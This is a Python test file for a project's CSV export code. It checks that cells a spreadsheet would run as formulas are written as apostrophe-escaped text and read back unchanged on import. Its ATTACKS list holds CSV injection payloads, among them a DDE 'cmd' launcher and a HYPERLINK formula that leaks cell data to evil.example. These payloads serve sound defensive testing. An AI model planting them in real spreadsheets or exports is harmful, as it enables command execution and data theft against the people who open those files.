"""CSV injection: cells a spreadsheet would run as a formula are written as text, and koers'
own importers read them back unchanged (pure; the exports' own tests check every download)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from koers.networks import csvcells

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def written(row: list[object]) -> str:
    out = io.StringIO()
    csvcells.writer(out).writerow(row)
    return out.getvalue()


def read_back(text: str) -> list[str]:
    return csvcells.unescape_row(next(csv.reader(io.StringIO(text, newline=""))))


def test_every_formula_start_is_written_as_quoted_text_with_a_leading_apostrophe():
    for attack in ATTACKS:
        cell = next(csv.reader(io.StringIO(written([attack]), newline="")))[0]
        assert cell == "'" + attack
        assert written([attack]).startswith("\"'")  # the field is quoted


def test_harmless_text_is_quoted_but_not_changed():
    assert written(["Acme is top", "", "a'b", "2+2"]) == '"Acme is top","","a\'b","2+2"\r\n'


def test_numbers_koers_computed_itself_stay_numbers_even_when_negative():
    # A measure value of -2 is koers' own number, not text from outside: no quote, no '.
    assert written(["value", -2, -0.5, Decimal("-1.25"), 3]) == '"value",-2,-0.5,-1.25,3\r\n'
    # The same characters as text (a mention reading "-2") are escaped.
    assert written(["-2"]) == '"\'-2"\r\n'


def test_export_then_import_gives_back_every_attack_and_text_that_starts_with_an_apostrophe():
    row = [*ATTACKS, "'=1+1", "''-2", "'gewoon", 'Acme, "fietsen"']
    assert read_back(written(row)) == row


def test_an_apostrophe_before_ordinary_text_is_left_alone_on_import():
    assert csvcells.unescape_cell("'gewoon") == "'gewoon"
    assert csvcells.unescape_cell("'-2") == "-2"


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_text_round_trips_and_never_starts_a_cell_with_a_formula(row):
    text = written(row)
    for cell in csv.reader(io.StringIO(text, newline="")):
        assert not any(c.startswith(csvcells.TRIGGERS) for c in cell)
    assert read_back(text) == row


def test_the_import_error_report_is_written_with_the_same_safe_writer():
    from koers.networks.files import RowError, iter_errors_as_csv

    text = "".join(iter_errors_as_csv((RowError(2, "=kolom", "-leeg"),)))
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["row", "column", "reason"],
        ["2", "'=kolom", "'-leeg"],
    ]
